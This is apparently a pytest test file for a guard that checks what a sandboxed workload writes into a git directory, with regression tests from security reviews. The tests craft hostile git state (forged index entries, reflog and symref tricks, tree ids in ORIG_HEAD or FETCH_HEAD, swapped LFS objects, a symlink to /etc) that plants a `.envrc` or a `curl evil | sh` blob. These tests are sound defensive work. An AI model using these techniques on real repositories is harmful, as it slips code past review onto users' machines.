        view = simulate(repo, g.shadows(base), base)
        if how == "v2-extended":
            git(repo, "update-index", "--skip-worktree", "src.txt", git_dir=view)
            data = (view / "index").read_bytes()[:-20]
            assert data[4:8] == (3).to_bytes(4, "big")
            data = data[:4] + (2).to_bytes(4, "big") + data[8:]
        else:
            evil = git(repo, "hash-object", "-w", "--stdin", git_dir=view, input_text="curl evil | sh\n").strip()
            data = (view / "index").read_bytes()
            at = data.index(b".envrc\0") - 62
            entry = data[at:at + 72]
            data = data[:8] + (int.from_bytes(data[8:12], "big") + 1).to_bytes(4, "big") + data[12:at] \
                + entry[:40] + bytes.fromhex(evil) + entry[60:] + data[at:-20]
        (view / "index").write_bytes(data + hashlib.sha1(data).digest())
        before = (repo / ".git/index").read_bytes()
        rec = g.check()
        refused = {r["path"]: r["change"] for r in rec["refused"]}
        assert "kept the project's" in refused.get(".git/index", ""), (how, rec["refused"])
        assert (repo / ".git/index").read_bytes() == before, how


@pytest.mark.parametrize("setup", ["commit", "v4", "untracked-cache", "skip-worktree", "conflict"])
def test_an_index_written_again_reads_as_git_wrote_it(repo, setup):
    """index_canonical: git's own indexes of every kind, written again, list the same
    entries with the same flags, and git takes them (status, diff)."""
    from kooi.run.gitindex import index_canonical

    (repo / "d").mkdir()
    (repo / "d/a.txt").write_text("a\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "one")
    if setup == "v4":
        git(repo, "update-index", "--index-version", "4")
    elif setup == "untracked-cache":
        git(repo, "-c", "core.untrackedCache=true", "status")
    elif setup == "skip-worktree":
        git(repo, "update-index", "--skip-worktree", "d/a.txt")
    elif setup == "conflict":
        blob = git(repo, "rev-parse", ":src.txt").strip()
        git(repo, "update-index", "--index-info", input_text=f"0 {'0' * 40}\tsrc.txt\n100644 {blob} 1\tsrc.txt\n"
                                                             f"100644 {blob} 2\tsrc.txt\n100644 {blob} 3\tsrc.txt\n")
    listed = git(repo, "ls-files", "-s", "-v", "--debug")
    data = (repo / ".git/index").read_bytes()
    again = index_canonical(data, 20)
    assert again is not None
    (repo / ".git/index").write_bytes(again)
    assert git(repo, "ls-files", "-s", "-v", "--debug") == listed
    git(repo, "status", "--porcelain")
    assert index_canonical(again, 20) == again


def test_review_43_an_entry_of_a_mode_git_does_not_write_keeps_the_index(repo, tmp_path_factory):
    """Review 43 (high): mode 0x1A1FF is a symlink to git (its file type bits) and was a
    file to kooi (`mode >> 12`): the host's `git checkout -- .` made `evil -> /etc`."""
    import hashlib

    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    view = simulate(repo, g.shadows(base), base)
    target = git(repo, "hash-object", "-w", "--stdin", git_dir=view, input_text="/etc").strip()
    git(repo, "update-index", "--add", "--cacheinfo", f"120000,{target},evil", git_dir=view)
    data = (view / "index").read_bytes()[:-20]
    at = data.index(b"evil\0") - 62
    data = data[:at + 24] + (0x1A1FF).to_bytes(4, "big") + data[at + 28:]
    (view / "index").write_bytes(data + hashlib.sha1(data).digest())
    rec = g.check()
    refused = {r["path"]: r["change"] for r in rec["refused"]}
    assert "mode" in refused.get(".git/index", ""), rec["refused"]
    assert "evil" not in git(repo, "ls-files")


def test_review_44_a_commit_named_by_a_reflogs_checkout_from_any_path_is_judged(repo, tmp_path_factory):
    """Review 44 (high): `description` (copied back) held a commit of the workload's and
    HEAD's reflog said "checkout: moving from description to main": the host's `git
    checkout -` checked it out (git resolves any path in the git directory as a ref)."""
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    view = simulate(repo, g.shadows(base), base)
    blob = git(repo, "hash-object", "-w", "--stdin", git_dir=view, input_text="echo pwned\n").strip()
    tree = git(repo, "mktree", git_dir=view, input_text=f"100644 blob {blob}\t.envrc\n").strip()
    evil = git(repo, "commit-tree", "-m", "evil", tree, git_dir=view).strip()
    head = git(repo, "rev-parse", "HEAD", git_dir=view).strip()
    (view / "objects/info").mkdir(exist_ok=True)
    (view / "objects/info/x").write_text(evil + "\n")
    with (view / "logs/HEAD").open("a") as f:
        f.write(f"{head} {head} a <a@b> 1796684116 +0000\tcheckout: moving from objects/info/x to main\n")
    (view / "description").write_text(evil + "\n")
    rec = g.check()
    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
    assert evil[:12] in said.get(".envrc", ""), said
    assert evil not in (repo / ".git/description").read_text()


@pytest.mark.parametrize("how", ["repeated", "upper-case-replace", "upper-case-shallow"])
def test_review_44_packed_refs_and_shallow_as_git_reads_them(repo, tmp_path_factory, how):
    """Review 44: a packed-refs with `refs/tags/v1` twice (git's binary search found the
    workload's, kooi read the other), an upper-case packed replace ref, an upper-case
    shallow line: each passed the checks; the project's are kept."""
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "one")
    git(repo, "commit", "-qm", "two", "--allow-empty")
    git(repo, "tag", "v1", "HEAD~1")
    git(repo, "pack-refs", "--all")
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    view = simulate(repo, g.shadows(base), base)
    head = git(repo, "rev-parse", "HEAD", git_dir=view).strip()
    old = git(repo, "rev-parse", "HEAD~1", git_dir=view).strip()
    name = "shallow" if how.endswith("shallow") else "packed-refs"
    before = (repo / ".git" / name).read_bytes() if (repo / ".git" / name).exists() else None
    if how == "repeated":
        lines = (view / "packed-refs").read_text().splitlines()
        at = next(i for i, ln in enumerate(lines) if ln.endswith(" refs/tags/v1"))
        lines.insert(at, f"{head} refs/tags/v1")
        (view / "packed-refs").write_text("\n".join(lines) + "\n")
    elif how == "upper-case-replace":
        with (view / "packed-refs").open("a") as f:
            f.write(f"{head.upper()} refs/replace/{old}\n")
    else:
        (view / "shallow").write_text(head.upper() + "\n")
    rec = g.check()
    refused = {r["path"]: r["change"] for r in rec["refused"]}
    assert "kept the project's" in refused.get(f".git/{name}", ""), rec["refused"]
    now = (repo / ".git" / name).read_bytes() if (repo / ".git" / name).exists() else None
    assert now == before


def _run_with_an_envrc_tree(repo: Path, tmp_path_factory) -> tuple[Guard, Path, str, str]:
    """A guarded run on REPO's first commit (HEAD) whose workload wrote a tree holding a
    `.envrc` into the git objects: (guard, the workload's view of .git, tree, HEAD)."""
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    view = simulate(repo, g.shadows(base), base)
    blob = git(repo, "hash-object", "-w", "--stdin", git_dir=view, input_text="echo pwned\n").strip()
    tree = git(repo, "mktree", git_dir=view, input_text=f"100644 blob {blob}\t.envrc\n").strip()
    return g, view, tree, git(repo, "rev-parse", "HEAD", git_dir=view).strip()


@pytest.mark.parametrize("how", ["reflog-without-tab", "symbolic-orig-head", "symbolic-cherry-pick-head",
                                 "reflog-names-a-symref", "symbolic-branch", "symbolic-reflog-file"])
def test_review_46_every_name_git_resolves_in_the_git_directory_is_judged(repo, tmp_path_factory, how):
    """Review 46 (high): a commit of the workload's in a file only git finds
    (objects/info/...), named where git reads names and kooi did not: a reflog's
    "checkout: moving from NAME" without the tab git's parser skips when present
    (`git checkout -`), ORIG_HEAD or CHERRY_PICK_HEAD as `ref: objects/info/y`
    (`git reset --hard ORIG_HEAD`), a reflog's NAME that is itself such a symref, a
    branch that is one (`git checkout feature`: only "could not be read" was said). Git
    resolves the names kooi judges by."""
    g, view, tree, head = _run_with_an_envrc_tree(repo, tmp_path_factory)
    evil = git(repo, "commit-tree", "-p", head, "-m", "evil", tree, git_dir=view).strip()
    (view / "objects/info").mkdir(exist_ok=True)
    (view / "objects/info/m").write_text(evil + "\n")
    (view / "objects/info/n").write_text("ref: objects/info/m\n")
    entry = f"{head} {head} a <a@b> 1796684116 +0000"
    if how == "reflog-without-tab":
        with (view / "logs/HEAD").open("a") as f:
            f.write(f"{entry}checkout: moving from objects/info/m to main\n")
        host = ["checkout", "-"]
    elif how.startswith("symbolic-") and how.endswith("-head"):
        name = "ORIG_HEAD" if "orig" in how else "CHERRY_PICK_HEAD"
        (view / name).write_text("ref: objects/info/m\n")
        host = ["reset", "--hard", name]
    elif how == "reflog-names-a-symref":
        with (view / "logs/HEAD").open("a") as f:
            f.write(f"{entry}\tcheckout: moving from objects/info/n to main\n")
        host = ["checkout", "-"]
    elif how == "symbolic-branch":
        (view / "refs/heads/feature").write_text("ref: objects/info/n\n")
        host = ["checkout", "feature"]
    else:
        (view / "logs/refs/heads").mkdir(parents=True, exist_ok=True)
        (view / "logs/refs/heads/other").write_text("ref: objects/info/m\n")
        with (view / "logs/HEAD").open("a") as f:
            f.write(f"{entry}\tcheckout: moving from logs/refs/heads/other to main\n")
        host = ["checkout", "-"]
    rec = g.check()
    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
    assert evil[:12] in said.get(".envrc", ""), (said, rec["refused"])
    # what the host's command does with it: the judged commit is the one it checks out
    _host_git(repo, *host)
    assert (repo / ".envrc").read_text() == "echo pwned\n"


@pytest.mark.parametrize("before", ["with-its-objects", "without-lfs-data"])
def test_git_lfs_objects_the_workload_wrote_are_verified(repo, tmp_path_factory, before):
    """Issue 29: `.git/lfs` holds Git LFS's objects by their SHA-256; git-lfs smudges a
    pointer from the local object without hashing it. A workload that rewrote the object
    of a committed file (bound in: WITH-ITS-OBJECTS) or wrote it where the project had
    none (a clone with GIT_LFS_SKIP_SMUDGE: copied back) got its content into the host's
    next checkout of that file. Objects that do not hash to their names, and what is not
    an object where git-lfs keeps them, are removed and listed."""
    assert shutil.which("git-lfs"), "git-lfs (Debian package git-lfs) is needed: scripts/bootstrap.sh installs it"
    _host_git(repo, "lfs", "install", "--local")
    (repo / ".gitattributes").write_text("*.bin filter=lfs diff=lfs merge=lfs -text\n")
    (repo / "data.bin").write_text("real\n")
    _host_git(repo, "add", "-A")
    _host_git(repo, "commit", "-qm", "lfs")
    oid = hashlib.sha256(b"real\n").hexdigest()
    if before == "without-lfs-data":
        shutil.rmtree(repo / ".git/lfs")
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    view = simulate(repo, g.shadows(base), base)
    obj = view / "lfs/objects" / oid[:2] / oid[2:4] / oid
    obj.parent.mkdir(parents=True, exist_ok=True)
    if obj.exists():
        obj.chmod(0o644)
        obj.unlink()
    obj.write_text("evil\n")
    (view / "lfs/objects/zz").mkdir()
    (view / "lfs/objects/zz/stray").write_text("x\n")
    rec = g.check()
    refused = {r["path"]: r["change"] for r in rec["refused"]}
    assert f".git/lfs/objects/{oid[:2]}/{oid[2:4]}/{oid}" in refused, rec["refused"]
    assert ".git/lfs/objects/zz" in refused or ".git/lfs/objects/zz/stray" in refused, rec["refused"]
    # the host's next checkout of the file: never the workload's content
    (repo / "data.bin").unlink()
    subprocess.run(["git", "-C", str(repo), "checkout", "--", "data.bin"], capture_output=True,
                   env={**os.environ, "GIT_TERMINAL_PROMPT": "0"})
    assert not (repo / "data.bin").exists() or (repo / "data.bin").read_text() != "evil\n"


def test_review_46_a_name_git_gives_up_on_hides_no_other(repo, tmp_path_factory):
    """`git cat-file --batch-check` gives up on a whole batch at `HEAD@{999}` (a reflog's
    checkout of a name no host command resolves either): the names beside it are still
    resolved and their commits judged, not the whole reflog said unreadable."""
    g, view, tree, head = _run_with_an_envrc_tree(repo, tmp_path_factory)
    evil = git(repo, "commit-tree", "-p", head, "-m", "evil", tree, git_dir=view).strip()
    (view / "objects/info").mkdir(exist_ok=True)
    (view / "objects/info/m").write_text(evil + "\n")
    with (view / "logs/HEAD").open("a") as f:
        for name in ("HEAD@{999}", "objects/info/m", "main@{99}"):
            f.write(f"{head} {head} a <a@b> 1796684116 +0000\tcheckout: moving from {name} to main\n")
    rec = g.check()
    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
    assert evil[:12] in said.get(".envrc", ""), said


def test_names_are_never_skipped_when_git_cannot_run(repo):
    """A git that fails whatever the name (here: on a git directory whose HEAD it cannot
    read) leaves the names unresolved and says so; that is no name git gives up on."""
    from kooi.run import gitdata
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    (repo / ".git/objects/info/m").write_text("0" * 40 + "\n")
    with (repo / ".git/logs/HEAD").open("a") as f:
        f.write(f"{'0' * 40} {'1' * 40} a <a@b> 1796684116 +0000\tcheckout: moving from objects/info/m to main\n")
    assert gitdata.read_tips(repo / ".git") is not None
    (repo / ".git/HEAD").write_text("garbage\n")
    assert gitdata.read_tips(repo / ".git") is None


@pytest.mark.parametrize("where", ["ORIG_HEAD", "reflog", "FETCH_HEAD", "AUTO_MERGE"])
def test_review_47_a_tree_a_pseudo_ref_or_reflog_names_is_judged(repo, tmp_path_factory, where):
    """Review 47 (medium): a tree id, not a commit, in ORIG_HEAD, HEAD's reflog,
    FETCH_HEAD or AUTO_MERGE (which holds a tree by design) was dropped as no commit;
    `git checkout ORIG_HEAD -- .`, `git restore --source=HEAD@{1} -- .` wrote its `.envrc`."""
    g, view, tree, head = _run_with_an_envrc_tree(repo, tmp_path_factory)
    if where == "reflog":
        with (view / "logs/HEAD").open("a") as f:
            f.write(f"{head} {tree} a <a@b> 1796684116 +0000\treset: moving to HEAD\n")
            f.write(f"{tree} {head} a <a@b> 1796684117 +0000\treset: moving to HEAD\n")
        host = ["restore", "--source=HEAD@{1}", "--", "."]
    else:
        (view / where).write_text(f"{tree}\t\tbranch 'main' of /x\n" if where == "FETCH_HEAD" else tree + "\n")
        host = ["checkout", where, "--", "."]
    rec = g.check()
    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
    assert tree[:12] in said.get(".envrc", ""), (said, rec["refused"])
    _host_git(repo, *host)
    assert (repo / ".envrc").read_text() == "echo pwned\n"


@pytest.mark.parametrize("tail", ["\0", " junk", "\tjunk", "\0junk"])
def test_review_47_a_ref_is_read_as_git_reads_it(repo, tmp_path_factory, tail):
    """Review 47: git reads a loose ref as its id followed by nothing, a blank or a NUL,
    whatever comes after; with a NUL the check crashed (the run failed, and so did every
    later one on the project), with ` junk` the commit was only said unreadable. The
    branch's commit is judged like any other (`git checkout nul` wrote its `.envrc`)."""
    g, view, tree, head = _run_with_an_envrc_tree(repo, tmp_path_factory)
    evil = git(repo, "commit-tree", "-p", head, "-m", "evil", tree, git_dir=view).strip()
    (view / "refs/heads/odd").write_bytes(evil.encode() + tail.encode() + b"\n")
    rec = g.check()
    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
    assert "refs/heads/odd" in said.get(".envrc", ""), (said, rec["refused"])
    _host_git(repo, "checkout", "odd")
    assert (repo / ".envrc").read_text() == "echo pwned\n"


def test_review_48_every_carrier_of_a_risky_file_is_named(repo, tmp_path_factory):
    """Review 48 (low): one `.envrc` (same content) on a new branch and in a commit left
    only in a reflog was named on the branch alone; deleting that branch left the other."""
    g, view, tree, head = _run_with_an_envrc_tree(repo, tmp_path_factory)
    on_branch = git(repo, "commit-tree", "-p", head, "-m", "one", tree, git_dir=view).strip()
    hidden = git(repo, "commit-tree", "-p", head, "-m", "two", tree, git_dir=view).strip()
    (view / "refs/heads/side").write_text(on_branch + "\n")
    with (view / "logs/HEAD").open("a") as f:
        f.write(f"{head} {hidden} a <a@b> 1796684116 +0000\tcommit: two\n")
        f.write(f"{hidden} {head} a <a@b> 1796684117 +0000\treset: moving to HEAD\n")
    rec = g.check()
    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
    assert "refs/heads/side" in said.get(".envrc", "") and "HEAD@{" in said.get(".envrc", ""), said


@pytest.mark.parametrize("depth", [1, 2])
def test_review_50_a_tag_of_a_tree_is_judged_like_the_tree(repo, tmp_path_factory, depth):
    """Review 50 (medium/high): an annotated tag (or a tag of one) of a tree in ORIG_HEAD
    was neither a tree to kooi nor anything `git log` walks (it drops it, exit 0):
    nothing said, and `git restore --source=ORIG_HEAD -- .` wrote its `.envrc`."""
    g, view, tree, _ = _run_with_an_envrc_tree(repo, tmp_path_factory)
    obj, kind = tree, "tree"
    for n in range(depth):
        obj = git(repo, "mktag", git_dir=view, input_text=f"object {obj}\ntype {kind}\ntag t{n}\n"
                                                          "tagger a <a@b> 1700000000 +0000\n\nx\n").strip()
        kind = "tag"
    (view / "ORIG_HEAD").write_text(obj + "\n")
    rec = g.check()
    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
    assert tree[:12] in said.get(".envrc", "") and "ORIG_HEAD" in said.get(".envrc", ""), (said, rec["refused"])
    _host_git(repo, "restore", "--source=ORIG_HEAD", "--", ".")
    assert (repo / ".envrc").read_text() == "echo pwned\n"
